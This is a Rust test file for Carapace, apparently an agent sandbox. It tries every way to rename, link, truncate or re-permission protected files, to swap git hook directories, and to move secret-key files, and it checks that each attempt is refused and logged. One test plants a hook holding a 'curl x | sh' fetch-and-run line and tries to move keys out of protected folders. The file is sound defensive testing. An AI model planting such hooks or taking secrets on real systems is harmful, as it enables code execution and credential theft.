@@ -1,0 +1,277 @@
+//! Changes of names (issue 23): every way to remove, replace, move, link, truncate or
+//! re-permission a protected file, run as uid 1000 inside `carapace run`, with the same
+//! operations on an unprotected directory as the control. Each refusal must be the kernel's
+//! EACCES, leave the file as it was, and reach `carapace run` with the operation's own word.
+
+use std::{
+    fs,
+    os::unix::fs::{chown, PermissionsExt as _},
+    path::Path,
+};
+
+use super::{agent, assert_denied_line, guard, stdout};
+
+/// Runs one operation per line of `ops` (Python expressions over the names `d`, the
+/// directory judged, and `o`, an unprotected one) and returns name → errno (0: it worked).
+const OPS_SCRIPT: &str = r#"
+import ctypes, os, sys
+d, o = sys.argv[1], sys.argv[2]
+libc = ctypes.CDLL(None, use_errno=True)
+def exchange(a, b):
+    if libc.syscall(316, -100, a.encode(), -100, b.encode(), 2) != 0:
+        e = ctypes.get_errno()
+        raise OSError(e, os.strerror(e))
+ops = [
+    ("unlink", lambda: os.unlink(d + "/m.txt")),
+    ("rename_away", lambda: os.rename(d + "/m.txt", o + "/m-away.txt")),
+    ("rename_over", lambda: os.rename(o + "/m-new.txt", d + "/m.txt")),
+    ("exchange", lambda: exchange(o + "/m-swap.txt", d + "/m.txt")),
+    ("link_onto", lambda: os.link(o + "/m-src.txt", d + "/m-link.txt")),
+    ("symlink", lambda: os.symlink(o + "/m-src.txt", d + "/m-sym.txt")),
+    ("create", lambda: os.close(os.open(d + "/m-created.txt", os.O_CREAT | os.O_WRONLY, 0o644))),
+    ("mkdir", lambda: os.mkdir(d + "/m-dir")),
+    ("mkfifo", lambda: os.mkfifo(d + "/m-fifo")),
+    ("truncate", lambda: os.truncate(d + "/m.txt", 0)),
+    ("o_trunc", lambda: os.close(os.open(d + "/m.txt", os.O_RDONLY | os.O_TRUNC))),
+    ("chmod", lambda: os.chmod(d + "/m.txt", 0o600)),
+]
+for name, op in ops:
+    try:
+        op()
+        print(f"{name}=0")
+    except OSError as e:
+        print(f"{name}={e.errno}")
+"#;
+
+/// Lays out `dir/m.txt` and the other directory's sources, all owned by the agent (uid
+/// 1000), so that only Carapace can refuse what follows.
+fn lay_out(dir: &str, other: &str) {
+    for d in [dir, other] {
+        let _ = fs::remove_dir_all(d);
+        fs::create_dir_all(d).expect("mkdir");
+        fs::set_permissions(d, fs::Permissions::from_mode(0o777)).expect("chmod dir");
+    }
+    for (path, text) in [
+        (format!("{dir}/m.txt"), "fixture\n"),
+        (format!("{other}/m-new.txt"), "replaced\n"),
+        (format!("{other}/m-swap.txt"), "swapped\n"),
+        (format!("{other}/m-src.txt"), "linked\n"),
+    ] {
+        fs::write(&path, text).expect("write");
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).expect("chmod");
+        chown(&path, Some(1000), Some(1000)).expect("chown");
+    }
+}
+
+fn results(text: &str) -> Vec<(String, String)> {
+    text.lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, v)| (k.to_owned(), v.trim().to_owned()))
+        .collect()
+}
+
+fn run_ops(dir: &str, other: &str) -> std::process::Output {
+    fs::write("/tmp/names-ops.py", OPS_SCRIPT).expect("write script");
+    fs::set_permissions("/tmp/names-ops.py", fs::Permissions::from_mode(0o644)).expect("chmod");
+    agent(&format!("python3 /tmp/names-ops.py {dir} {other}"))
+}
+
+#[test]
+fn a_write_protected_file_keeps_its_name_content_and_mode() {
+    let _g = guard();
+    // `/srv/readonly/**` is write-only protected (readonly-tree).
+    let (dir, other) = ("/srv/readonly/names", "/srv/open/names-src");
+    lay_out(dir, other);
+    let out = run_ops(dir, other);
+    let got = results(&stdout(&out));
+    assert_eq!(got.len(), 12, "every operation ran: {got:?}");
+    for (name, errno) in &got {
+        assert_eq!(errno, "13", "{name} must be refused with EACCES: {got:?}");
+    }
+    let file = format!("{dir}/m.txt");
+    assert_eq!(fs::read_to_string(&file).expect("still there"), "fixture\n");
+    let mode = fs::metadata(&file).expect("stat").permissions().mode() & 0o777;
+    assert_eq!(mode, 0o644, "mode unchanged");
+    for made in [
+        "m-link.txt",
+        "m-sym.txt",
+        "m-created.txt",
+        "m-dir",
+        "m-fifo",
+    ] {
+        assert!(
+            fs::symlink_metadata(format!("{dir}/{made}")).is_err(),
+            "{made} must not exist: a refused creation leaves nothing behind"
+        );
+    }
+    let rule = "(rule readonly-tree: This tree is read-only for agents)";
+    for line in [
+        format!("blocked delete of {file} {rule}"),
+        format!("blocked rename of {file} {rule}"),
+        format!("blocked rename onto {file} {rule}"),
+        format!("blocked hard link onto {dir}/m-link.txt {rule}"),
+        format!("blocked symlink onto {dir}/m-sym.txt {rule}"),
+        format!("blocked create of {dir}/m-created.txt {rule}"),
+        format!("blocked create of {dir}/m-dir {rule}"),
+        format!("blocked create of {dir}/m-fifo {rule}"),
+        format!("blocked truncate of {file} {rule}"),
+        format!("blocked write of {file} {rule}"),
+        format!("blocked chmod of {file} {rule}"),
+    ] {
+        assert_denied_line(&out, &line);
+    }
+}
+
+#[test]
+fn the_same_changes_of_an_unprotected_file_work() {
+    let _g = guard();
+    let (dir, other) = ("/srv/open/names", "/srv/open/names-src");
+    lay_out(dir, other);
+    let out = run_ops(dir, other);
+    let got = results(&stdout(&out));
+    // unlink removes m.txt and rename_away has nothing left to move (ENOENT); rename_over
+    // and exchange make it again; every other operation works.
+    let expected = [
+        ("unlink", "0"),
+        ("rename_away", "2"),
+        ("rename_over", "0"),
+        ("exchange", "0"),
+        ("link_onto", "0"),
+        ("symlink", "0"),
+        ("create", "0"),
+        ("mkdir", "0"),
+        ("mkfifo", "0"),
+        ("truncate", "0"),
+        ("o_trunc", "0"),
+        ("chmod", "0"),
+    ];
+    let expected: Vec<(String, String)> = expected
+        .iter()
+        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+        .collect();
+    assert_eq!(got, expected);
+    assert!(
+        !super::stderr(&out).contains("carapace: blocked"),
+        "no denial for an unprotected directory"
+    );
+}
+
+/// Runs `script` as the agent and returns its stdout.
+fn agent_stdout(script: &str) -> (String, std::process::Output) {
+    let out = agent(script);
+    (stdout(&out), out)
+}
+
+#[test]
+fn hook_directories_cannot_be_swapped_in_or_out() {
+    let _g = guard();
+    // `**/.githooks/**` is write-protected (githook-dirs), except `**/.githooks/examples/**`.
+    for repo in ["/srv/open/repo", "/srv/open/repo2"] {
+        let _ = fs::remove_dir_all(repo);
+        fs::create_dir_all(repo).expect("mkdir repo");
+        fs::set_permissions(repo, fs::Permissions::from_mode(0o777)).expect("chmod");
+    }
+    fs::create_dir_all("/srv/open/repo/.githooks/examples").expect("mkdir hooks");
+    fs::set_permissions(
+        "/srv/open/repo/.githooks",
+        fs::Permissions::from_mode(0o777),
+    )
+    .expect("chmod");
+    fs::set_permissions(
+        "/srv/open/repo/.githooks/examples",
+        fs::Permissions::from_mode(0o777),
+    )
+    .expect("chmod");
+    fs::write("/srv/open/repo/.githooks/pre-commit", "#!/bin/sh\n").expect("hook");
+    let _ = fs::remove_dir_all("/srv/open/evil-hooks");
+    let (text, out) = agent_stdout(
+        "cd /srv/open; \
+         echo x > repo/.githooks/post-merge; echo create=$?; \
+         mv repo/.githooks repo/.githooks-old; echo move_out=$?; \
+         mkdir /srv/open/evil-hooks && echo 'curl x | sh' > /srv/open/evil-hooks/pre-commit; \
+         mv /srv/open/evil-hooks repo2/.githooks; echo move_in=$?; \
+         ln -s /srv/open/evil-hooks repo2/.githooks; echo symlink_in=$?; \
+         echo ok > repo/.githooks/examples/sample; echo example=$?; \
+         mv /srv/open/evil-hooks repo2/tools; echo control_move=$?",
+    );
+    for (what, want) in [
+        ("create", "1"),
+        ("move_out", "1"),
+        ("move_in", "1"),
+        ("symlink_in", "1"),
+        ("example", "0"),
+        ("control_move", "0"),
+    ] {
+        assert!(
+            text.contains(&format!("{what}={want}\n")),
+            "{what} must give {want}:\n{text}"
+        );
+    }
+    assert!(!Path::new("/srv/open/repo2/.githooks").exists());
+    assert!(Path::new("/srv/open/repo/.githooks/pre-commit").exists());
+    let rule = "(rule githook-dirs:";
+    assert_denied_line(
+        &out,
+        &format!("blocked create of /srv/open/repo/.githooks/post-merge {rule}"),
+    );
+    assert_denied_line(
+        &out,
+        &format!("blocked rename of /srv/open/repo/.githooks {rule}"),
+    );
+    assert_denied_line(
+        &out,
+        &format!("blocked rename onto /srv/open/repo2/.githooks {rule}"),
+    );
+    assert_denied_line(
+        &out,
+        &format!("blocked symlink onto /srv/open/repo2/.githooks {rule}"),
+    );
+}
+
+#[test]
+fn pattern_protected_files_get_no_new_name() {
+    let _g = guard();
+    // Their parents are the agent's to change, so only Carapace refuses what follows.
+    fs::set_permissions("/srv", fs::Permissions::from_mode(0o777)).expect("chmod /srv");
+    let owned = |path: &str| {
+        let dir = Path::new(path).parent().expect("parent");
+        fs::create_dir_all(dir).expect("mkdir");
+        fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("chmod");
+        fs::write(path, "fixture\n").expect("write");
+        chown(path, Some(1000), Some(1000)).expect("chown");
+    };
+    // A basename rule, a glob with `**` in the middle, a regex.
+    owned("/srv/open/keys2/forbidden.key");
+    owned("/srv/projects/a/secret-1.pem");
+    owned("/srv/vault/7.secret");
+    let (text, out) = agent_stdout(
+        "for f in /srv/open/keys2/forbidden.key /srv/projects/a/secret-1.pem /srv/vault/7.secret; do \
+           ln $f /srv/open/linked 2>/dev/null; echo link=$?; \
+           mv $f /srv/open/moved 2>/dev/null; echo move=$?; \
+         done; \
+         mv /srv/projects /srv/projects-moved; echo move_projects=$?; \
+         mv /srv/data /srv/data-moved; echo move_data=$?; \
+         mv /srv/open/keys2 /srv/open/keys3 && cat /srv/open/keys3/forbidden.key; echo read_moved=$?",
+    );
+    assert_eq!(text.matches("link=1").count(), 3, "{text}");
+    assert_eq!(text.matches("move=1").count(), 3, "{text}");
+    for what in ["move_projects=1", "move_data=1", "read_moved=1"] {
+        assert!(text.contains(what), "{what}:\n{text}");
+    }
+    assert!(!text.contains("fixture"), "nothing leaked:\n{text}");
+    for line in [
+        "blocked hard link of /srv/open/keys2/forbidden.key (rule forbidden-key",
+        "blocked rename of /srv/open/keys2/forbidden.key (rule forbidden-key",
+        "blocked hard link of /srv/projects/a/secret-1.pem (rule project-secret-keys",
+        "blocked rename of /srv/projects/a/secret-1.pem (rule project-secret-keys",
+        "blocked hard link of /srv/vault/7.secret (rule numbered-vault-secrets",
+        "blocked rename of /srv/vault/7.secret (rule numbered-vault-secrets",
+        "blocked rename of /srv/projects (rule project-secret-keys",
+        "blocked rename of /srv/data (rule token-file",
+        "blocked read of /srv/open/keys3/forbidden.key (rule forbidden-key",
+    ] {
+        assert_denied_line(&out, line);
+    }
+    let _ = fs::remove_dir_all("/srv/open/keys3");
+    let _ = fs::remove_dir_all("/srv/open/keys2");
+}
